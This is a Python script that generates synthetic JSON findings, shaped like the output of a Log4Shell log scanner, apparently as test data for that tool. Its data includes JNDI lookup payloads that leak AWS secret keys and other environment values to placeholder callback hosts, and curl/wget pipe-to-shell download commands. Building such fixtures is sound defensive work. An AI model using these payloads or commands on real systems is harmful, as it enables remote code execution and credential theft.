#!/usr/bin/env python3
"""gen.py -- writes SIZE_MB megabytes of `defuse logs --json` finding lines
to stdout, shaped like the real ones (every field, \\u0024 for "$"), over
a 3-day incident: a rising then decaying spike, 200k distinct sources (some
internal), 5k callback hosts, exfiltration keys, JNDIExploit commands and
techniques drawn from skewed distributions.  Deterministic (seeded).

usage: gen.py SIZE_MB > findings.jsonl
"""
import json
import random
import sys

size = int(sys.argv[1]) * 1000 * 1000
rnd = random.Random(14)
kinds = ["jndi"] * 80 + ["lookup"] * 8 + ["inert"] * 7 + ["text4shell"] * 3 + ["recursion"] * 2
techs = ["lower", "upper", "nested", "default-value", "case", "encoded", "exfiltration",
         "jndiexploit", "unicode-case", "hash-bypass", "date-literal", "base64"]
keys = ["env:AWS_SECRET_ACCESS_KEY", "env:AWS_ACCESS_KEY_ID", "sys:java.version", "hostName",
        "env:USER", "env:PATH", "sys:user.name", "java:os"]
cmds = ["curl -s http://198.51.100.%d:8080/x.sh | sh" % i for i in range(20)] + \
       ["wget -q -O- http://203.0.113.%d/lh.sh|bash" % i for i in range(20)]
base = 1639094400  # 2021-12-10T00:00:00Z
out = sys.stdout
buf = []
written = 0
n = 0
while written < size:
    n += 1
    # the spike: hours 0..71, most in hours 12..30
    h = min(71, int(abs(rnd.gauss(20, 9))))
    t = base + h * 3600 + rnd.randrange(3600)
    src = rnd.randrange(200000) if rnd.random() < 0.5 else int(rnd.paretovariate(1.2)) % 200000
    ip = ("10.%d.%d.%d" % (src >> 16 & 255, src >> 8 & 255, src & 255)) if src % 97 == 0 else \
         ("%d.%d.%d.%d" % (11 + src % 180, src >> 8 & 255, src & 255, 1 + src % 250))
    host = "c%d.c2.example" % (int(rnd.paretovariate(1.1)) % 5000)
    port = rnd.choice([1389, 1389, 389, 1099, 53])
    k = rnd.choice(kinds)
    ex = rnd.sample(keys, rnd.choice([0, 0, 0, 1, 2]))
    cmd = rnd.choice(cmds) if rnd.random() < 0.1 else None
    payload = "${jndi:ldap://%s%s:%d/a%d}" % ("".join("${%s}." % e for e in ex), host, port, n)
    o = {"file": "/var/log/nginx/access.log.%d" % (h // 24), "line": n, "src_ip": ip,
         "time": "%sZ" % __import__("time").strftime("%Y-%m-%dT%H:%M:%S", __import__("time").gmtime(t)),
         "kind": k, "payload": payload, "decoded": payload, "layers": [],
         "techniques": rnd.sample(techs, rnd.choice([1, 2, 3])),
         "callback": "ldap://%s:%d/a%d" % (host, port, n), "scheme": "ldap", "host": host,
         "port": port, "path": "a%d" % n, "exfil": ex, "command": cmd}
    line = json.dumps(o, separators=(",", ":")).replace("$", "\\u0024") + "\n"
    buf.append(line)
    written += len(line)
    if len(buf) >= 4096:
        out.write("".join(buf))
        buf = []
out.write("".join(buf))
